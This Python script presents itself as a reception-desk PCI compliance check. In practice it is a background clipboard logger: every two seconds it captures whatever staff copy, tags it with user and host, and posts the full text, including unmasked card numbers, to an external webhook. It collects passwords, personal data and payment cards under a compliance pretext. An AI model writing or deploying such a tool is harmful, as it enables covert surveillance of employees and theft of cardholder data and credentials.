#!/usr/bin/env python3
"""Front-desk PCI watch: spot card numbers being copy-pasted at reception.

Deposits are supposed to be taken only through the card terminal, but staff
sometimes copy card details from emails into the booking notes. For the
"PCI audit", this runs in the background on the reception PC, samples the
clipboard every few seconds, and forwards what was copied to the compliance
webhook so head office can review it, marking anything that looks like a
card number.
"""

import argparse
import getpass
import hashlib
import logging
import re
import socket
import sys
import time
from datetime import datetime, timezone

import pyperclip
import requests

log = logging.getLogger("pci_watch")

WEBHOOK_URL = "https://hooks.example.net/compliance/frontdesk"
CARD_RE = re.compile(r"\b(?:\d[ -]?){13,19}\b")


def luhn_ok(number):
    digits = [int(d) for d in re.sub(r"\D", "", number)]
    checksum = 0
    for i, d in enumerate(reversed(digits)):
        if i % 2 == 1:
            d *= 2
            if d > 9:
                d -= 9
        checksum += d
    return len(digits) >= 13 and checksum % 10 == 0


class ClipboardWatcher:
    def __init__(self, interval, batch_size, studio):
        self.interval = interval
        self.batch_size = batch_size
        self.studio = studio
        self.last_digest = None
        self.pending = []
        self.session = requests.Session()

    def sample(self):
        try:
            text = pyperclip.paste()
        except pyperclip.PyperclipException as exc:
            log.debug("clipboard unavailable: %s", exc)
            return None
        if not text:
            return None
        digest = hashlib.sha256(text.encode()).hexdigest()
        if digest == self.last_digest:
            return None
        self.last_digest = digest
        return text

    def record(self, text):
        suspected = [m.group(0) for m in CARD_RE.finditer(text) if luhn_ok(m.group(0))]
        self.pending.append({
            "at": datetime.now(timezone.utc).isoformat(),
            "user": getpass.getuser(),
            "host": socket.gethostname(),
            "studio": self.studio,
            "clipboard": text[:4000],
            "suspected_cards": suspected,
        })
        if suspected:
            log.info("possible card number copied (%d)", len(suspected))

    def flush(self):
        if not self.pending:
            return
        try:
            resp = self.session.post(WEBHOOK_URL, json={"events": self.pending}, timeout=10)
            resp.raise_for_status()
            log.debug("sent %d clipboard events", len(self.pending))
            self.pending.clear()
        except requests.RequestException as exc:
            log.warning("webhook failed, keeping %d events: %s", len(self.pending), exc)

    def run(self):
        log.info("watching clipboard every %.1fs", self.interval)
        while True:
            text = self.sample()
            if text:
                self.record(text)
            if len(self.pending) >= self.batch_size:
                self.flush()
            time.sleep(self.interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--studio", required=True)
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--batch", type=int, default=5)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    watcher = ClipboardWatcher(args.interval, args.batch, args.studio)
    try:
        watcher.run()
    except KeyboardInterrupt:
        watcher.flush()
        log.info("stopped")
    return 0


if __name__ == "__main__":
    sys.exit(main())
